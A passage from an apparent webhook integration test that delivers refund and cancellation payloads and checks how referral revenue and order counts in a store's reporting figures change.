    expect(f.get('previous|referred_orders')).toBe('0');
    await deliver('refunds/create', refundPayload(98011, 9801, [{ position: 1, quantity: 1, subtotal: '10.00' }]));
    await worked('refund:98011');
    f = await figures();
    expect(f.get('current|referred_revenue')).toBe((Number(before.get('current|referred_revenue')) + 32).toFixed(2));
    await deliver('orders/cancelled', { ...orderPayload(9801, order), cancelled_at: new Date().toISOString() });
    await worked('cancel:9801');
    f = await figures();
    expect(f.get('current|referred_orders')).toBe(before.get('current|referred_orders'));
  });
});
